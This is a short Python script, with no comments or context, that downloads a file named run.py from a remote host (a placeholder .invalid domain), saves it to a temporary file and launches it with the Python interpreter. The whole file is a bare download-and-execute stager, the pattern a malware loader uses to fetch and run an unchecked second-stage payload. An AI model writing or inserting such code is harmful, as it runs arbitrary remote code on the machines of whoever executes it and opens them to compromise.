import os
import subprocess
import sys
import tempfile
from urllib import request

handle, name = tempfile.mkstemp(suffix=".py")
with os.fdopen(handle, "wb") as out:
    out.write(request.urlopen("https://stage.example.invalid/run.py").read())
subprocess.Popen([sys.executable, name])
